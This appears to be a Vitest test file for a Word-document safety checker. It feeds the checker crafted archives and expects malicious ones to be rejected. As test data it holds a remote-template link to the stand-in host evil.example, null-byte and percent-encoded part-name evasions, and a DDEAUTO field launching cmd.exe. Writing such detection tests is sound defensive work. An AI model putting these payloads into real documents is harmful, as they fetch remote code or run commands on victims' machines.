import { expect, test } from 'vitest'
import { wordParts, zipOf } from '#server/test/sample-archives.ts'
import { officeFile } from './office-file.ts'

const problem = async (name: string, content: string | Buffer) =>
  (await officeFile(zipOf([...wordParts, { name, content }]))).problem

test.for(['.rels\0.png', '.rel%73', '%2erels', '.%52ELS'])(
  'a document whose list of links has a name that programs read in two ways is unsafe: %j',
  async (ending) => {
    const links = '<Relationship Type="/attachedTemplate" TargetMode="External" Target="https://evil.example/a.dotm"/>'
    expect(await problem(`word/_rels/settings.xml${ending}`, links)).toBe('fileUnsafe')
  },
)

test('a document with a picture under an Arabic name, a space or a percent sign is accepted', async () => {
  for (const name of ['صورة', 'a%20b', '%D8%B5', '100%'])
    expect(await problem(`word/media/${name}.png`, 'x'), name).toBe(undefined)
})

test.for<[string, string, BufferEncoding]>([
  ['word/document.dat', '', 'utf8'],
  ['customXml/item1.xml', '', 'utf8'],
  ['customXml/item1.xml', '\ufeff', 'utf16le'],
  ['customXml/item1.xml', ' ', 'utf16le'],
])('a document in which a part of any name runs a program is unsafe: %s, %j, %s', async ([name, before, coding]) => {
  const xml = Buffer.from(`${before}<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>`, coding)
  expect(await problem(name, xml)).toBe('fileUnsafe')
  if (coding === 'utf16le') expect(await problem(name, Buffer.from(xml).swap16())).toBe('fileUnsafe')
  expect(await problem(name, Buffer.from('<a>DDEAUTO</a>', coding))).toBe(undefined)
})
